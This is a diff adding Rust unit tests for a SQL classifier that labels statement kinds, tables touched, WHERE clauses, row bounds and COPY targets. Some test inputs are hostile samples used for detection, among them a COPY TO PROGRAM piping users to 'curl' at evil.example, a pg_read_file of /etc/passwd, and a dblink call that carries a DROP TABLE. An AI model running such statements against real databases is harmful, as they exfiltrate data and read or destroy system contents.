@@ -1,0 +1,218 @@
+use super::*;
+
+fn one(sql: &str) -> SqlStatement {
+    let mut v = classify(sql);
+    assert_eq!(v.len(), 1, "{sql}: {v:?}");
+    v.remove(0)
+}
+
+#[test]
+fn kinds_of_common_statements() {
+    let cases = [
+        ("SELECT 1", StatementKind::Select),
+        ("insert into t values (1)", StatementKind::Insert),
+        ("UPDATE t SET a = 1 WHERE id = 2", StatementKind::Update),
+        ("DELETE FROM t WHERE id = 2", StatementKind::Delete),
+        ("DROP TABLE users", StatementKind::Drop),
+        ("drop index if exists i", StatementKind::Drop),
+        ("TRUNCATE orders", StatementKind::Truncate),
+        ("CREATE TABLE t (id int)", StatementKind::Create),
+        ("CREATE INDEX i ON t (a)", StatementKind::Create),
+        ("ALTER TABLE t ADD COLUMN b int", StatementKind::Alter),
+        ("BEGIN", StatementKind::Transaction),
+        ("COMMIT", StatementKind::Transaction),
+        ("ROLLBACK", StatementKind::Transaction),
+        ("SET search_path = public", StatementKind::Set),
+        ("SHOW server_version", StatementKind::Show),
+        ("GRANT SELECT ON t TO bob", StatementKind::Grant),
+        ("COPY t FROM STDIN", StatementKind::Copy),
+        ("LISTEN jobs", StatementKind::Notify),
+        ("VACUUM t", StatementKind::Maintenance),
+    ];
+    for (sql, kind) in cases {
+        assert_eq!(one(sql).kind, kind, "{sql}");
+    }
+}
+
+#[test]
+fn multi_statement_text_yields_each_statement() {
+    let v = classify("BEGIN; DELETE FROM t WHERE id = 1; DROP TABLE t; COMMIT");
+    let kinds: Vec<_> = v.iter().map(|s| s.kind).collect();
+    assert_eq!(
+        kinds,
+        [
+            StatementKind::Transaction,
+            StatementKind::Delete,
+            StatementKind::Drop,
+            StatementKind::Transaction
+        ]
+    );
+    assert!(classify("").is_empty());
+    assert!(classify("  ; ").is_empty() || classify("  ; ").len() <= 1);
+}
+
+#[test]
+fn unparseable_text_is_one_unparsed_statement() {
+    let s = one("SELEC * FORM users");
+    assert_eq!(s.kind, StatementKind::Unparsed);
+    assert!(s.error.is_some());
+}
+
+#[test]
+fn tables_read_and_written() {
+    let s = one("SELECT u.email FROM public.users u JOIN Orders o ON o.uid = u.id");
+    assert_eq!(s.tables_read, ["orders", "public.users"]);
+    assert!(s.tables_written.is_empty());
+
+    let s = one("INSERT INTO audit SELECT * FROM events");
+    assert_eq!(s.tables_written, ["audit"]);
+    assert_eq!(s.tables_read, ["events"]);
+
+    let s = one("UPDATE accounts SET balance = 0 FROM blocked WHERE blocked.id = accounts.id");
+    assert_eq!(s.tables_written, ["accounts"]);
+    assert_eq!(s.tables_read, ["blocked"]);
+
+    let s = one(r#"DELETE FROM "Mixed"."Case" WHERE id = 1"#);
+    assert_eq!(s.tables_written, ["Mixed.Case"]);
+
+    let s = one("WITH recent AS (SELECT * FROM orders) SELECT * FROM recent");
+    assert_eq!(s.tables_read, ["orders"], "a CTE name is not a table");
+
+    let s = one("SELECT * INTO backup FROM users");
+    assert_eq!(s.tables_written, ["backup"]);
+}
+
+#[test]
+fn where_clauses_that_filter_nothing_do_not_count() {
+    assert_eq!(one("DELETE FROM t").has_where, Some(false));
+    assert_eq!(one("DELETE FROM t WHERE true").has_where, Some(false));
+    assert_eq!(one("DELETE FROM t WHERE 1 = 1").has_where, Some(false));
+    assert_eq!(one("DELETE FROM t WHERE id = 4").has_where, Some(true));
+    assert_eq!(one("UPDATE t SET a = 1").has_where, Some(false));
+    assert_eq!(one("UPDATE t SET a = 1 WHERE a > 3").has_where, Some(true));
+    assert_eq!(one("SELECT * FROM t").has_where, None);
+}
+
+#[test]
+fn nested_data_modification_is_seen() {
+    let s = one("WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone");
+    assert_eq!(s.kind, StatementKind::Select);
+    assert!(s.kinds().any(|k| k == StatementKind::Delete));
+    assert_eq!(s.has_where, Some(false));
+    assert_eq!(s.tables_written, ["users"]);
+
+    let s = one("EXPLAIN ANALYZE DELETE FROM users");
+    assert_eq!(s.kind, StatementKind::Explain);
+    assert!(s.kinds().any(|k| k == StatementKind::Delete));
+    assert_eq!(s.has_where, Some(false));
+
+    let s = one("PREPARE wipe AS DELETE FROM users");
+    assert_eq!(s.kind, StatementKind::Prepare);
+    assert!(s.kinds().any(|k| k == StatementKind::Delete));
+}
+
+#[test]
+fn boundedness() {
+    assert_eq!(one("SELECT * FROM t").bounded, Some(false));
+    assert_eq!(one("SELECT * FROM t LIMIT 10").bounded, Some(true));
+    assert_eq!(
+        one("SELECT * FROM t FETCH FIRST 5 ROWS ONLY").bounded,
+        Some(true)
+    );
+    assert_eq!(one("SELECT * FROM t WHERE id = 5").bounded, Some(true));
+    assert_eq!(
+        one("SELECT abalance FROM pgbench_accounts WHERE aid = $1").bounded,
+        Some(true)
+    );
+    assert_eq!(
+        one("SELECT * FROM t WHERE id IN (1, 2) AND a > 0").bounded,
+        Some(true)
+    );
+    assert_eq!(
+        one("SELECT * FROM t WHERE id = 5 OR a > 0").bounded,
+        Some(false)
+    );
+    assert_eq!(one("SELECT count(*) FROM t").bounded, Some(true));
+    assert_eq!(one("SELECT array_agg(email) FROM t").bounded, Some(false));
+    assert_eq!(one("SELECT now()").bounded, Some(true));
+    assert_eq!(one("INSERT INTO t VALUES (1)").bounded, None);
+}
+
+#[test]
+fn functions_including_table_functions() {
+    let s = one("SELECT pg_read_file('/etc/passwd')");
+    assert_eq!(s.functions, ["pg_read_file"]);
+    let s = one("SELECT * FROM dblink('host=x', 'DROP TABLE t') AS r(a int)");
+    assert_eq!(s.functions, ["dblink"]);
+    assert!(s.tables_read.is_empty(), "{:?}", s.tables_read);
+    let s = one("SELECT pg_catalog.lo_export(1, '/tmp/x'), lower(name) FROM t");
+    assert_eq!(s.functions, ["lower", "pg_catalog.lo_export"]);
+}
+
+#[test]
+fn copy_statements() {
+    let s = one("COPY users (id, email) TO STDOUT WITH (FORMAT csv)");
+    let c = s.copy.unwrap();
+    assert_eq!(c.direction, CopyDirection::To);
+    assert_eq!(c.endpoint, CopyEndpoint::Client);
+    assert_eq!(c.format, CopyFormat::Csv);
+    assert_eq!(c.delimiter, ',');
+    assert_eq!(c.columns, ["id", "email"]);
+    assert_eq!(s.tables_read, ["users"]);
+
+    let s = one("COPY users FROM STDIN");
+    assert_eq!(s.tables_written, ["users"]);
+    assert_eq!(s.copy.unwrap().delimiter, '\t');
+
+    let s = one("COPY users TO PROGRAM 'curl -d @- evil.example'");
+    assert_eq!(s.copy.unwrap().endpoint, CopyEndpoint::Program);
+
+    let s = one("COPY (SELECT email FROM users) TO STDOUT");
+    assert_eq!(s.tables_read, ["users"]);
+}
+
+#[test]
+fn deep_nesting_is_refused_not_overflowed() {
+    let sql = format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000));
+    assert_eq!(one(&sql).kind, StatementKind::Unparsed);
+}
+
+#[test]
+fn cache_returns_the_same_answer() {
+    let cache = ClassifierCache::default();
+    let a = cache.classify("SELECT * FROM t WHERE id = $1");
+    let b = cache.classify("SELECT * FROM t WHERE id = $1");
+    assert!(Arc::ptr_eq(&a, &b));
+    assert_eq!(a[0].kind, StatementKind::Select);
+}
+
+#[test]
+fn psql_describe_queries_parse() {
+    // What psql 15 sends for `\dt` and `\d users`.
+    let dt = r#"SELECT n.nspname as "Schema",
+  c.relname as "Name",
+  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN 'foreign table' WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as "Type",
+  pg_catalog.pg_get_userbyid(c.relowner) as "Owner"
+FROM pg_catalog.pg_class c
+     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
+     LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam
+WHERE c.relkind IN ('r','p','')
+      AND n.nspname <> 'pg_catalog'
+      AND n.nspname !~ '^pg_toast'
+      AND n.nspname <> 'information_schema'
+  AND pg_catalog.pg_table_is_visible(c.oid)
+ORDER BY 1,2;"#;
+    let d = r#"SELECT c.oid,
+  n.nspname,
+  c.relname
+FROM pg_catalog.pg_class c
+     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
+WHERE c.relname OPERATOR(pg_catalog.~) '^(users)$' COLLATE pg_catalog.default
+  AND pg_catalog.pg_table_is_visible(c.oid)
+ORDER BY 2, 3;"#;
+    for sql in [dt, d] {
+        let s = one(sql);
+        assert_eq!(s.kind, StatementKind::Select, "{:?}", s.error);
+        assert!(s.tables_read.contains(&"pg_catalog.pg_class".to_string()));
+    }
+}
